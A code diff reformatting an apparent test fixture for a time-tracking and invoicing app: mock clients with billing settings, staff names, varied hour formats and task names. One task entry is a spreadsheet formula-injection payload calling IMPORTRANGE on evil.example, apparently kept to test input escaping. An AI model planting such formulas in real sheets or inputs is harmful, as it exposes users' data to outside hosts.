@@ -10,15 +10,66 @@ export const PROJECT_MANAGER = 'pm@agency.test';
 export const EDITOR = 'ben@agency.test';
 
 export const CLIENTS: (ClientSpec & { initialHours: number })[] = [
-  { Client: 'Acme NV', Type: 'Company', 'Billing email': 'finance@acme.example', 'Hourly rate': 95, Currency: 'EUR', 'Minimum balance (h)': 10, 'Top-up (h)': 40, 'Auto-invoice': true, initialHours: 40 },
-  { Client: 'Brightside BV', Type: 'Company', 'Billing email': 'ap@brightside.example', 'Hourly rate': 85, Currency: 'EUR', 'Minimum balance (h)': 5, 'Top-up (h)': 20, 'Auto-invoice': true, 'Rounding (min)': 15, initialHours: 20 },
-  { Client: 'Studio Noor', Type: 'Contact', 'Billing email': 'noor@studionoor.example', 'Hourly rate': 70, Currency: 'EUR', 'Minimum balance (h)': 3, 'Top-up (h)': 10, 'Auto-invoice': false, initialHours: 12 },
-  { Client: 'Northwind Ltd', Type: 'Company', 'Billing email': 'invoices@northwind.example', 'Hourly rate': 120, Currency: 'GBP', 'Minimum balance (h)': 8, 'Top-up (h)': 30, 'Auto-invoice': true, initialHours: 30 },
+  {
+    Client: 'Acme NV',
+    Type: 'Company',
+    'Billing email': 'finance@acme.example',
+    'Hourly rate': 95,
+    Currency: 'EUR',
+    'Minimum balance (h)': 10,
+    'Top-up (h)': 40,
+    'Auto-invoice': true,
+    initialHours: 40,
+  },
+  {
+    Client: 'Brightside BV',
+    Type: 'Company',
+    'Billing email': 'ap@brightside.example',
+    'Hourly rate': 85,
+    Currency: 'EUR',
+    'Minimum balance (h)': 5,
+    'Top-up (h)': 20,
+    'Auto-invoice': true,
+    'Rounding (min)': 15,
+    initialHours: 20,
+  },
+  {
+    Client: 'Studio Noor',
+    Type: 'Contact',
+    'Billing email': 'noor@studionoor.example',
+    'Hourly rate': 70,
+    Currency: 'EUR',
+    'Minimum balance (h)': 3,
+    'Top-up (h)': 10,
+    'Auto-invoice': false,
+    initialHours: 12,
+  },
+  {
+    Client: 'Northwind Ltd',
+    Type: 'Company',
+    'Billing email': 'invoices@northwind.example',
+    'Hourly rate': 120,
+    Currency: 'GBP',
+    'Minimum balance (h)': 8,
+    'Top-up (h)': 30,
+    'Auto-invoice': true,
+    initialHours: 30,
+  },
 ];
 
 const PEOPLE = ['Ann Peeters', 'Ben Claes', 'Chloé Martin', 'Dries Wouters'];
 const HOURS: unknown[] = ['1:30', 2, 0.75, '45m', '1h15', 3, 1.5, '0:20', 2.25, '1:05', 0.5, '2h'];
-const TASKS = ['Design review', 'Sprint planning', 'Bug fixing', 'Copywriting', 'Client call', 'Analytics report', 'Landing page build', 'QA pass', '\'=IMPORTRANGE("https://evil.example","A1")'];
+const TASKS = [
+  'Design review',
+  'Sprint planning',
+  'Bug fixing',
+  'Copywriting',
+  'Client call',
+  'Analytics report',
+  'Landing page build',
+  'QA pass',
+  '\'=IMPORTRANGE("https://evil.example","A1")',
+];
 
 /** Weekdays from `from` to `to` (inclusive), as yyyy-mm-dd strings typed into the Date column. */
 function weekdays(from: Date, to: Date): string[] {
